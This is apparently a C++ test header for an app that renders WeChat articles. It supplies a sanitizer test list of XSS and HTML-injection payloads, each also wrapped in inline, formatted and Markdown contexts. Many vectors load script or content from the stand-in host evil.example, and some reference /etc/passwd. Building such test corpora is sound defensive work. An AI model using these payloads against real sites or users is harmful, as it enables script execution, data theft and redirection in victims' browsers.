#pragma once

#include <QByteArray>
#include <QByteArrayList>

namespace Jianbao::WeChat::Testing {

/// HTML that means harm: every vector alone and in the wrappings that have slipped past sanitizers elsewhere.
inline QByteArrayList hostilePayloads()
{
    const QByteArrayList vectors{
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script\n>alert(1)</script\n>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\" onload='alert(1)'>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=`x` onerror=alert(1)>",
        "<img src=javascript:alert(1)>",
        "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
        "<img src=data:text/html,x>",
        "<img src=file:///etc/passwd>",
        "<img src=/etc/passwd>",
        "<img src=\\\\evil.example\\x>",
        "<img srcset=\"https://evil.example/x 1x\" src=x>",
        "<img src=x style=\"background:url(https://evil.example/x)\">",
        "<img src=x longdesc=https://evil.example usemap=#m>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><use href=\"https://evil.example/x#y\"/></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=https://evil.example></object>",
        "<embed src=https://evil.example>",
        "<applet code=x></applet>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import url(https://evil.example/x.css);</style>",
        "<style>body{background:url(https://evil.example/x)}</style>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=https://evil.example/>",
        "<form action=https://evil.example><input name=x><button formaction=javascript:alert(1)>x</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)></textarea>",
        "<select autofocus onfocus=alert(1)><option>x</select>",
        "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
        "<video src=https://evil.example/x onerror=alert(1)><source src=x></video>",
        "<audio src=https://evil.example/x autoplay></audio>",
        "<body onload=alert(1) background=https://evil.example/x>",
        "<frameset><frame src=https://evil.example></frameset>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\"  java\tscript:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
        "<a href=\"\x01javascript:alert(1)\">x</a>",
        "<a href=vbscript:x>x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=https://evil.example ping=https://evil.example/ping target=_blank>x</a>",
        "<a href=https://mp.weixin.qq.com/s/a onclick=alert(1)>x</a>",
        "<p style=\"position:fixed;top:0\">x</p>",
        "<p style=\"background:url('https://evil.example/x')\">x</p>",
        "<p style=\"background-image:\\75rl(https://evil.example/x)\">x</p>",
        "<p style=\"width:expression(alert(1))\">x</p>",
        "<p style=\"-moz-binding:url(https://evil.example/x)\">x</p>",
        "<p style=\"behavior:url(x.htc)\">x</p>",
        "<p style=\"color:red;}</style><script>alert(1)</script>\">x</p>",
        "<p style=\"content:attr(x)\">x</p>",
        "<p style=\"width:calc(100% - 1px);color:var(--x)\">x</p>",
        "<p style=\"color:/**/red;font-family:'a;b'\">x</p>",
        "<p id=x class=y data-z=1 onclick=alert(1) dir=rtl lang=en title=t>x</p>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<title><img src=x onerror=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<table><td><form><form></td></table><img src=x onerror=alert(1)>",
        "<table><tr><td><script>alert(1)</script></td></tr></table>",
        "<custom-element onclick=alert(1)>x</custom-element>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>",
        "<img src='jianbao-img:/etc/passwd'>",
        "<img src=qrc:/x.png>",
        "<area href=javascript:alert(1)>",
        "<ul><li><ul><li><script>alert(1)</script></ul></ul>",
        "<font color=red onclick=alert(1) face=\"x;position:fixed\" size=7>x</font>",
        "\xff\xfe<script>alert(1)</script>",
        "<a href=\"https://mp.weixin.qq.com/s\"><a href=javascript:alert(1)>x</a></a>",
    };

    QByteArrayList payloads;
    for (const QByteArray &vector : vectors) {
        payloads += vector;
        payloads += "前 " + vector + " 后";              // inline, in a paragraph
        payloads += "<div><b>" + vector + "</b></div>";  // within formatting
        payloads += "> - " + vector + "\n>   " + vector; // in Markdown blocks
    }
    return payloads;
}

} // namespace Jianbao::WeChat::Testing
